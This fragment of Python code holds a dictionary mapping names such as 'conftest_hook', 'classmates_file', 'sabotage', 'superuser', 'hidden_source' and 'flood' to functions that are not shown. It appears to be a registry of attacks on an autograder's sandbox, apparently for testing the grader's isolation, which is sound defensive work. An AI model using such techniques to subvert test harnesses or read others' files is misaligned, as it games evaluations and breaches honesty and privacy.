    "a01_monkeypatch": _monkeypatch, "a02_files_in_cwd": _files_in_cwd, "a03_grandchild": _grandchild, "a04_conftest_hook": _conftest_hook,
    "a05_classmates_file": _classmates_file, "a06_sabotage": _sabotage, "a07_superuser": _superuser, "a08_databases": _databases,
    "zz_flood": _flood, "a09_processes": _processes, "a10_import_loop": _import_loop, "a11_regex_in_c": _regex_in_c,
    "a12_hidden_source": _hidden_source, "a13_environ": _environ,
}
